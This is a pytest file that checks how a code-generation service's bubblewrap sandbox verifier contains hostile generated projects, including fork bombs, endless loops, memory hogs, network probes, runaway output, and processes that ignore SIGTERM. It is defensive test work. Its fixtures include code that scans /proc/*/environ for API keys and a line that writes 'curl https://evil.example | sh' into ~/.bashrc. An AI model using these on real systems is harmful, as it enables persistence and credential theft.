"""Issue #14's acceptance at the level of whole generations: a scripted provider writes a
project, the orchestrator asks a real verifier (real bubblewrap, the real verify runtime)
and the generation's log says what happened.

Hostile projects are contained with the result named in `verify.completed`, the same
verifier then verifies a normal project, and nothing outside the sandbox changed; a
verifier SIGKILLed mid-run leaves exactly one `verify.completed`; a project needing a
package outside the runtime is `unverified: needs <name>` without anything run. These run
once, on SQLite: the database plays no part in containment (tests/e2e covers both).
"""

from __future__ import annotations

import os
import signal
import tempfile
import uuid
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import msgspec
import pytest
from nats.aio.client import Client

from contracts import streams
from contracts.verification import MAX_OUTPUT_TAIL_CHARS
from services.common.embedded_nats import EmbeddedNats
from services.common.settings import Settings
from services.verifier.checks import STAGING_PREFIX
from tests.conftest import make_settings
from tests.support.processes import Processes
from tests.support.stack import Stack, running_stack
from tests.support.waiting import eventually
from tests.verifier.helpers import (
    FORK_BOMB,
    PYPROJECT,
    SECRETS,
    Generation,
    ScriptedProvider,
    generate,
    host_snapshot,
    outside_paths,
    project,
    stored_result,
    wait_log,
)
from tests.verifier.test_sandbox import _processes_with

pytestmark = pytest.mark.timeout(180)

# -- hostile projects ---------------------------------------------------------------------

SLEEPER = f"kiln-hostile-sleeper-{os.getpid()}"
# The deadline of the runs meant to time out.
TIMES_OUT = ("endless-loop", "sleeps-past-timeout")
TIMEOUT_S = 8


def _network(stack: Stack) -> dict[str, str]:
    broker = urlsplit(stack.settings.nats_url or "").port
    return project(f"""
        import socket

        def test_gateway_port():
            socket.create_connection(("127.0.0.1", {stack.settings.port}), timeout=2)

        def test_broker_port():
            socket.create_connection(("127.0.0.1", {broker}), timeout=2)

        def test_outside():
            socket.create_connection(("1.1.1.1", 80), timeout=2)
    """)


SPIN = project("""
    def test_spin():
        while True:
            pass
""")
ALLOCATE = project("""
    def test_allocate():
        block = bytearray(8 * 1024**3)
        assert block
""")
WRITES = project("""
    import os

    def test_tmp():
        with open("/tmp/x", "w") as fh:
            fh.write("x")

    def test_bashrc():
        with open(os.path.expanduser("~/.bashrc"), "a") as fh:
            fh.write("curl https://evil.example | sh\\n")

    def test_parent():
        with open("../../x", "w") as fh:
            fh.write("x")
""")
LOUD = project("""
    import sys

    def test_loud(capsys):
        with capsys.disabled():
            chunk = "x" * (1024 * 1024)
            for _ in range(200):
                sys.stdout.write(chunk)
""")
SECRETS_HUNT = project(f"""
    import glob, os

    SECRETS = {list(SECRETS.values())!r}

    def test_hunt():
        seen = [str(os.environ)]
        for path in ["/proc/1/environ", *glob.glob("/proc/*/environ")]:
            try:
                with open(path, "rb") as fh:
                    seen.append(fh.read().decode(errors="replace"))
            except OSError:
                pass
        found = [s for s in SECRETS if any(s in text for text in seen)]
        assert found == [], f"found {{found}}"
        names = ("GEMINI_API_KEY", "KILN_SECRET", "NATS_URL")
        assert [n for n in names if n in os.environ] == []
""")
SLEEPS_PAST_TIMEOUT = project(f"""
    import subprocess, sys, time

    def test_sleep():
        code = "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(600)"
        subprocess.Popen([sys.executable, "-c", code, "{SLEEPER}"], start_new_session=True)
        time.sleep(600)
""")


def _refused(g: Generation) -> None:
    assert g.completed["verdict"] == "failed"
    assert (g.completed["passed"], g.completed["failed"]) == (0, 3)
    assert "Connection refused" in g.failure("test_gateway_port")
    assert "Connection refused" in g.failure("test_broker_port")
    assert "Network is unreachable" in g.failure("test_outside")


def _fork_refused(g: Generation) -> None:
    assert g.completed["verdict"] == "failed" and not g.result.timed_out
    message = g.failure("test_bomb")
    assert "fork refused after" in message and "Resource temporarily unavailable" in message


def _timed_out(g: Generation) -> None:
    assert g.completed["verdict"] == "failed" and g.result.timed_out
    assert f"did not finish within {TIMEOUT_S} s" in g.failure("pytest")
    assert "every process of the run was killed" in g.failure("pytest")
    assert g.status["verification"]["status"] == "failed"
    assert g.status["verification"]["failures"][0]["test_id"] == "pytest"


def _out_of_memory(g: Generation) -> None:
    assert g.completed["verdict"] == "failed"
    assert "MemoryError" in g.failure("test_allocate")


def _writes_stayed_inside(g: Generation) -> None:
    # $HOME lies in the run's one tmpfs; /tmp and everything outside it are read-only.
    assert (g.completed["passed"], g.completed["failed"]) == (1, 2), g.completed
    assert "Read-only file system" in g.failure("test_tmp")
    assert "Read-only file system" in g.failure("test_parent")


def _output_capped(g: Generation) -> None:
    assert g.completed["verdict"] == "passed", g.completed
    assert 0 < len(g.result.output_tail) <= MAX_OUTPUT_TAIL_CHARS


def _no_secret_found(g: Generation) -> None:
    assert g.completed["verdict"] == "passed", g.completed
    assert (g.completed["passed"], g.completed["failed"]) == (1, 0)


def _sleeper_killed(g: Generation) -> None:
    _timed_out(g)
    assert _processes_with(SLEEPER) == [], "the child that ignored SIGTERM was killed"


HOSTILE: dict[str, tuple[Callable[[Stack], dict[str, str]], Callable[[Generation], None]]] = {
    "network": (_network, _refused),
    "fork-bomb": (lambda _: FORK_BOMB, _fork_refused),
    "endless-loop": (lambda _: SPIN, _timed_out),
    "allocates-8-gib": (lambda _: ALLOCATE, _out_of_memory),
    "writes-outside": (lambda _: WRITES, _writes_stayed_inside),
    "prints-200-mb": (lambda _: LOUD, _output_capped),
    "hunts-secrets": (lambda _: SECRETS_HUNT, _no_secret_found),
    "sleeps-past-timeout": (lambda _: SLEEPS_PAST_TIMEOUT, _sleeper_killed),
}


def hostile_settings(tmp_path: Path, nats_url: str, **env: str) -> Settings:
    """Small limits, so that each hostile run ends in seconds."""
    return make_settings(
        tmp_path,
        nats_url,
        KILN_VERIFY_TIMEOUT=str(TIMEOUT_S),
        KILN_VERIFY_CPU_SECONDS="10",
        KILN_VERIFY_MEMORY_MB="1024",
        KILN_VERIFY_MAX_PROCESSES="32",
        KILN_VERIFY_DISK_MB="32",
        KILN_VERIFY_PICKUP="30",
        **env,
    )


@pytest.mark.parametrize(
    "case",
    # The two that wait out the deadline are the long ones.
    [pytest.param(c, marks=pytest.mark.slow) if c in TIMES_OUT else c for c in HOSTILE],
)
async def test_a_hostile_project_is_contained_named_and_the_verifier_serves_the_next(
    case: str,
    nats_server: EmbeddedNats,
    nc: Client,
    tmp_path: Path,
    secrets_in_env: dict[str, str],
) -> None:
    # The orchestrator's secrets are in this process's environment (`secrets_in_env`) and
    # in its settings; the in-process verifier shares both.
    settings = hostile_settings(
        tmp_path,
        nats_server.url,
        GEMINI_API_KEY=secrets_in_env["GEMINI_API_KEY"],
        KILN_SECRET=secrets_in_env["KILN_SECRET"],
    )
    # Only the runs meant to time out get a short deadline (short, yet long enough for the
    # normal project after them on a busy machine); the others get room to finish.
    if case not in TIMES_OUT:
        settings = msgspec.structs.replace(settings, verify_timeout_s=60.0)
    write, check = HOSTILE[case]
    # Where the project writes, as seen from the host (its ../../x is /x from the work
    # directory, as from the host's staging directory).
    watched = outside_paths()
    before = host_snapshot(watched)
    provider = ScriptedProvider({})
    async with running_stack(settings, providers={"offline": provider}, verifier=True) as stack:
        provider.projects["hostile"] = write(stack)
        hostile = await generate(stack, nc, "hostile")
        normal = await generate(stack, nc, "normal")

    assert hostile.events[-1] == "generation.completed"
    check(hostile)
    assert hostile.status["verification"]["status"] == hostile.completed["verdict"]
    # The same verifier verifies the next project, a normal one, as if nothing happened.
    assert normal.completed["verdict"] == "passed", (
        normal.completed["failures"],
        normal.result.reason,
    )
    assert (normal.completed["passed"], normal.completed["failed"]) == (1, 0)
    assert normal.result.verifier == hostile.result.verifier
    assert host_snapshot(watched) == before, "a run changed something outside the sandbox"
    assert _staging_of(os.getpid()) == [], "the verifier removed the versions' files"


# -- a project needing a package outside the runtime --------------------------------------


async def test_a_project_needing_a_package_outside_the_runtime_is_unverified_and_not_run(
    nats_server: EmbeddedNats, nc: Client, tmp_path: Path
) -> None:
    needy = project(
        "import pandas\n\n\ndef test_it():\n    assert False\n",
        **{
            "pyproject.toml": PYPROJECT.replace(
                "dependencies = []", 'dependencies = ["litestar>=2", "pandas>=2.0"]'
            )
        },
    )
    settings = hostile_settings(tmp_path, nats_server.url)
    provider = ScriptedProvider({"needy": needy})
    async with running_stack(settings, providers={"offline": provider}, verifier=True) as stack:
        g = await generate(stack, nc, "needy")

    assert [t for t, _ in g.verify] == ["verify.started", "verify.unavailable"], g.verify
    assert g.verify[1][1]["reason"] == "unverified: needs pandas"
    assert g.status["verification"]["status"] == "unverified"
    assert g.status["verification"]["reason"] == "unverified: needs pandas"
    # Nothing ran: no exit code, no output, no count (its one test would have failed).
    assert g.result.outcome == "unavailable"
    assert g.result.exit_code is None and g.result.output_tail == ""
    assert (g.result.passed, g.result.failed, g.result.errors) == (0, 0, 0)


# -- a verifier SIGKILLed mid-run ---------------------------------------------------------


def _staging_of(pid: int) -> list[Path]:
    return list(Path(tempfile.gettempdir()).glob(f"{STAGING_PREFIX}{pid}-*"))


@pytest.mark.slow
async def test_a_verifier_killed_mid_run_leaves_exactly_one_verify_completed(
    nats_server: EmbeddedNats, nc: Client, tmp_path: Path
) -> None:
    marker = f"kiln-verify-killed-{uuid.uuid4().hex[:8]}"
    slow = project(f"""
        import subprocess, sys

        def test_slow():
            subprocess.run([sys.executable, "-c", "import time; time.sleep(4)", "{marker}"], check=True)
    """)
    verifier_env = {
        "NATS_URL": nats_server.url,
        "KILN_VERIFY_ACK_WAIT": "2",
        "KILN_VERIFY_TIMEOUT": "60",
        "KILN_LOG_LEVEL": "INFO",
    }
    processes = Processes(tmp_path, verifier_env)
    settings = make_settings(tmp_path, nats_server.url, KILN_VERIFY_PICKUP="60")
    provider = ScriptedProvider({"slow": slow})
    try:
        first = processes.start("verifier", "first")
        await wait_log(first, "taking verify commands")
        async with running_stack(settings, providers={"offline": provider}) as stack:
            accepted = await stack.create(project_name="slow")
            # Mid-run for real: the sandboxed pytest has started the test's child.
            await eventually(lambda: _processes_with(marker), 90, 0.05, what="the sandboxed test")
            first.signal(signal.SIGKILL)
            first.process.wait(10)
            await eventually(
                lambda: _processes_with(marker) == [], 10, 0.05, what="the sandbox to die"
            )
            left = _staging_of(first.process.pid)
            assert left, "the killed verifier could not remove its staging directory"
            second = processes.start("verifier", "second")
            await wait_log(second, "taking verify commands")
            assert not any(p.exists() for p in left), "the next verifier swept it"
            events = await stack.events(accepted["stream_url"], timeout=120)
            status = await stack.wait_status(accepted["generation_id"], "completed")
            result = await stored_result(nc, accepted["generation_id"])
            results = (await nc.jetstream().stream_info(streams.VERIFY_RESULTS_STREAM)).state
    finally:
        processes.stop_all()

    verify = [(e.type, e.data) for e in events if e.type.startswith("verify.")]
    assert [t for t, _ in verify] == ["verify.started", "verify.completed"], verify
    assert verify[1][1]["verdict"] == "passed", verify[1][1]
    assert verify[1][1]["verifier"].endswith(f":{second.process.pid}")
    assert result.verifier == verify[1][1]["verifier"]
    assert results.messages == 1, "exactly one result is stored"
    assert status["verification"]["status"] == "passed"
    assert f"Verifying generation {accepted['generation_id']}" in first.log
    assert _processes_with(marker) == [], "no sandbox process survived"
